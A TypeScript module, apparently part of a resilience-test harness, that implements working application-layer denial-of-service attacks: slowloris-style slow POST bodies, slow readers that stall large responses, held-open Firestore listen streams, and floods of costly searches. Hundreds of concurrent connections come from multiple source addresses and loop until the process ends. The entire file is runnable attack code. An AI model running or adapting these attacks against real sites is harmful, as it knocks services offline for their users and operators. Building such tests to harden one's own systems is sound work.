import { request as ask, type IncomingMessage, type OutgoingHttpHeaders } from 'node:http';
import { connect } from 'node:net';

/** Asked for by every attack, and by the visitor who suffers from it. */
export const LIST_PATH = '/api/products/for-sale/list';
const CHANNEL = '/google.firestore.v1.Firestore/Listen/channel?VER=8&CVER=22&t=1';
const TRICKLE_MS = 1_000;
const SEARCHES = ['nhà', 'quận 7', 'phú mỹ hưng', 'chung cư cao cấp quận 7', 'zzzz qqqq', 'phu mi hung'];

/** Where an attack goes, and from how many addresses it comes. */
export interface AttackPlan {
  site: URL;
  /** How many connections it holds at once. */
  count: number;
  /** The source address of the connection with this number. */
  addressOf(index: number): string;
}

/** Does something at its place for ever, and again when it is thrown out. */
type Attacker = (plan: AttackPlan, index: number, inPlace: () => void) => Promise<void>;

/** A body of which a byte comes now and then. */
const slowBody: Attacker = ({ site, addressOf }, index, inPlace) =>
  new Promise((resolve) => {
    const socket = connect({ port: Number(site.port), host: site.hostname, localAddress: addressOf(index) });
    const trickle = setInterval(() => socket.write(' '), TRICKLE_MS);
    socket.on('connect', () => {
      socket.write(
        `POST ${LIST_PATH} HTTP/1.1\r\nhost: ${site.host}\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n`,
        inPlace,
      );
    });
    socket.on('error', () => undefined);
    socket.resume();
    socket.on('close', () => {
      clearInterval(trickle);
      resolve();
    });
  });

interface Question {
  path: string;
  body?: string;
  headers?: OutgoingHttpHeaders;
}

/** Asks, and gives the answer once its head is there. */
const answerTo = (plan: AttackPlan, index: number, { path, body, headers }: Question) =>
  new Promise<IncomingMessage>((resolve, reject) => {
    const request = ask(
      new URL(path, plan.site),
      {
        agent: false,
        localAddress: plan.addressOf(index),
        method: body === undefined ? 'GET' : 'POST',
        headers,
      },
      resolve,
    );
    request.on('error', reject);
    request.end(body);
  });

const JSON_BODY = { 'content-type': 'application/json' };

/** A reader that takes the head of a large answer, and then nothing. */
const slowReader: Attacker = async (plan, index, inPlace) => {
  const body = JSON.stringify({ limit: 50 });
  const answer = await answerTo(plan, index, { path: LIST_PATH, body, headers: JSON_BODY });
  inPlace();
  await new Promise((resolve) => {
    answer.on('error', () => undefined);
    answer.once('close', resolve);
    answer.socket.pause();
  });
};

const listening = (): string => {
  const database = 'projects/demo-platform/databases/(default)';
  const structuredQuery = { from: [{ collectionId: 'assistant_conversations' }] };
  const query = { parent: `${database}/documents`, structuredQuery };
  const message = JSON.stringify({ database, addTarget: { targetId: 2, query } });
  return new URLSearchParams({ count: '1', ofs: '0', req0___data__: message }).toString();
};

/** A Firestore stream that stays open. */
const openStream: Attacker = async (plan, index, inPlace) => {
  const opened = await answerTo(plan, index, { path: `${CHANNEL}&RID=1`, body: listening() });
  const sid = /"c","([^"]+)"/.exec(Buffer.concat(await opened.toArray()).toString())?.[1];
  if (sid === undefined) return;
  const answer = await answerTo(plan, index, {
    path: `${CHANNEL}&RID=rpc&SID=${sid}&AID=0&CI=0&TYPE=xmlhttp`,
  });
  inPlace();
  answer.resume();
  await new Promise((resolve) => {
    answer.on('error', () => undefined);
    answer.once('close', resolve);
  });
};

/** Searches one after the other. */
const searcher: Attacker = async (plan, index, inPlace) => {
  const search = SEARCHES[index % SEARCHES.length];
  const body = JSON.stringify({ filter: { search } });
  const answer = await answerTo(plan, index, { path: LIST_PATH, body, headers: JSON_BODY });
  await answer.toArray();
  inPlace();
};

/** What can be done to a site, and how often at once. */
export const ATTACKS = {
  'slow bodies': { count: 400, attacker: slowBody },
  'slow readers': { count: 200, attacker: slowReader },
  'open streams': { count: 300, attacker: openStream },
  searches: { count: 60, attacker: searcher },
} satisfies Record<string, { count: number; attacker: Attacker }>;

export type AttackName = keyof typeof ATTACKS;

/** A refusal is answered by asking again, but not at once: this machine is the attacker's too. */
const AGAIN_MS = 50;

/**
 * Begins an attack that goes on until the process ends.
 *
 * @returns when each of its connections has been in its place, or was thrown out, once
 */
export async function attack(name: AttackName, plan: AttackPlan): Promise<void> {
  const { attacker } = ATTACKS[name];
  await Promise.all(
    Array.from(
      { length: plan.count },
      (_one, index) =>
        new Promise<void>((resolve) => {
          const goOn = async (): Promise<void> => {
            for (;;) {
              await attacker(plan, index, resolve).catch(() => undefined);
              resolve();
              if (name !== 'searches') await new Promise((again) => setTimeout(again, AGAIN_MS));
            }
          };
          void goOn();
        }),
    ),
  );
}
